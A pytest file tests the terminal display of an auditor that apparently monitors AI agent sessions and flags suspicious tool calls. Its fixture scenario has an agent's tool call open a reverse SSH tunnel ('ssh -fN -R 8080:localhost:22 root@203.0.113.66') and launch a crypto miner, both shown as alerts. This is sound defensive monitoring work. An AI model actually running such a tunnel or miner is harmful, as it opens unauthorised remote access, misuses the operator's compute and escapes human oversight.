"""The whole screen."""

import dataclasses

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from wcwidth import wcswidth

from auditor.sinks.snapshot import Snapshot
from auditor.sinks.tally import Tally
from auditor.view.glyphs import ASCII, UNICODE
from auditor.view.screen import Selection, frame
from tests.unit.view.scene import TUNNEL, connect, make_agent, make_alert, make_call, make_process, make_rome, run

ANY_TEXT = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF, categories=None), max_size=60)


@pytest.fixture(scope="module")
def rome():
    """Give a snapshot with a tunnel and a miner."""
    return make_rome()[0].snapshot()


def test_rome_at_80_by_24(rome):
    """In seconds one sees which tool call opened the tunnel, and to where."""
    assert frame(rome, Selection(rome.rows[1].key), 80, 24, UNICODE).text == (
        " auditor on node-1 · 12 tasks · 1 session · 2 tool calls               2 alerts\n"
        " 4 events · 0/s ▁█ · 0 lost                                            cpu 0.5%\n"
        "────────────────────────────────────────────────────────────────────────────────\n"
        "  LEVEL    RULE                    TOOL CALL     WHERE TO            SEEN   AGE\n"
        "  CRITICAL Miner launched          t9            198.51.100.9:3333           2s\n"
        "▶ HIGH     Reverse SSH tunnel to … t7            203.0.113.66:22             9s\n"
        "────────────────────────────────────────────────────────────────────────────────\n"
        " session rome  exe:*/agent\n"
        " └─ tool call t7\n"
        '    └─ 4121 bash -c "ssh -fN -R 8080:localhost:22 root@203.0.113.6… running 10s\n'
        "       └─ 4122 ssh -fN -R 8080:localhost:22 root@203.0.113.66        running 9s\n"
        "          ● HIGH Reverse SSH tunnel to an external address\n"
        "            → exec ssh -fN -R 8080:localhost:22 root@203.0.113.66\n"
        "            → connect 203.0.113.66:22 tcp external\n"
        "\n\n\n\n\n\n\n\n\n"
        " q quit  ↑↓ choose                                                 alert 2 of 2"
    )


def test_rome_at_200_by_60(rome):
    """A large screen shows titles, commands and trees without a cut."""
    text = frame(rome, Selection(rome.rows[1].key), 200, 60, UNICODE).text
    assert "…" not in text
    assert 'bash -c "ssh -fN -R 8080:localhost:22 root@203.0.113.66"' in text
    assert "trainer --threads 8" in text


def test_calm_at_80_by_24():
    """Without an alert the screen says quietly that it watches."""
    lines = frame(Snapshot(tracked=12), Selection(), 80, 24, UNICODE).text.splitlines()
    assert lines[3] == "  watching 12 tasks, no alerts"
    assert [line for line in lines[4:-1] if line] == []


def test_ascii_has_only_ascii(rome):
    """A terminal that is not UTF-8 gets no character that it cannot show."""
    assert frame(rome, Selection(), 80, 24, ASCII).text.isascii()


@pytest.mark.parametrize("height", [1, 2, 3, 5, 8, 10, 24, 60])
@pytest.mark.parametrize("width", [1, 2, 10, 40, 80, 200])
def test_a_frame_has_exactly_the_size_of_the_screen(rome, width, height):
    """However small the screen is, nothing wraps or scrolls."""
    for snapshot in (rome, Snapshot()):
        for glyphs in (UNICODE, ASCII):
            strips = frame(snapshot, Selection(), width, height, glyphs).strips
            assert len(strips) == height
            assert {strip.width for strip in strips} == {width}


@settings(max_examples=50)
@given(ANY_TEXT, ANY_TEXT, st.sampled_from([(80, 24), (33, 9), (200, 60)]))
def test_hostile_text_cannot_break_the_frame(text, other, size):
    """Whatever an agent names itself, its sessions, its files and its arguments, each line is printable and fits."""
    process = make_process(101, (text, other), make_call(text, agent=make_agent(other)), executable=f"/tmp/{other}")
    tally = Tally()
    tally.alert(make_alert(TUNNEL, process, run(process), connect(process)))
    for strip in frame(tally.snapshot(), Selection(), *size, UNICODE).strips:
        assert strip.text.isprintable()
        assert wcswidth(strip.text) == size[0]


def test_many_alerts_leave_room_for_the_tree(rome):
    """The list takes a third of a small screen, not all of it."""
    rows = tuple(dataclasses.replace(rome.rows[1], key=("k", number, 0)) for number in range(100))
    text = frame(dataclasses.replace(rome, rows=rows), Selection(), 80, 24, UNICODE).text
    assert text.count("Reverse SSH tunnel to …") == 6
    assert "→ connect 203.0.113.66:22 tcp external" in text
    assert "alert 1 of 100" in text


def test_the_selection_follows_the_newest_until_moved(rome):
    """What is on top is shown, until somebody chooses; then that row stays chosen wherever it goes."""
    rows = rome.rows
    chosen = Selection().moved(rows, 1)
    assert (Selection().position(rows), chosen.position(rows)) == (0, 1)
    newer = dataclasses.replace(rows[0], key=("new", 1, 1))
    assert Selection().position((newer, *rows)) == 0
    assert chosen.position((newer, *rows)) == 2


def test_the_selection_stays_in_the_list(rome):
    """It stops at both ends, follows again at the top, and falls back to the newest when its row is gone."""
    rows = rome.rows
    assert Selection().moved(rows, 5).position(rows) == 1
    assert Selection().moved(rows, 1).moved(rows, -1) == Selection()
    assert Selection().moved((), 1) == Selection()
    assert Selection(("gone", 0, 0)).position(rows) == 0
